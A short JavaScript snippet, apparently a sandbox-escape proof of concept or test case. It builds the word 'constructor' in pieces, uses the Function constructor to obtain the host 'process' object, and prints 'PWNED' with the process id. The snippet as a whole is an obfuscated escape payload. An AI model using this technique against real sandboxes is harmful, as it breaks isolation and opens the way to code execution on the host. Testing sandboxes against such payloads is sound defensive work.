'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const s = { valueOf: () => t };
const o = Date.now() > 1 ? Object(s).valueOf() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
